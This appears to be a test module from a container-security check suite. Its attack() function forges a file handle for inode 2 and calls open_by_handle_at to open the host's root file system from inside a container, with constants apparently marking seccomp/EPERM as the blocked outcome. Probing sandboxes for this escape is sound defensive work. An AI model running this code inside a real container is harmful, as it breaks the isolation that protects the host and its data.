"""Opens the host's root by its inode's number, as containers were once left."""

FULL = "EPERM", "seccomp"
NEEDS_ROOT = True
LACKING = {"EOPNOTSUPP": "a file system with handles", "ENOTSUP": "a file system with handles"}


def attack():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 8 + 128)
    try:
        libcall("name_to_handle_at", -100, b"/", handle, ctypes.create_string_buffer(8), 0)
    except OSError as error:
        if error.errno == errno.EOPNOTSUPP:
            raise
        struct.pack_into("IiII", handle, 0, 8, 1, 2, 0)  # inode 2: the root of ext4
    return libcall("open_by_handle_at", os.open(".", os.O_RDONLY), handle, os.O_RDONLY)
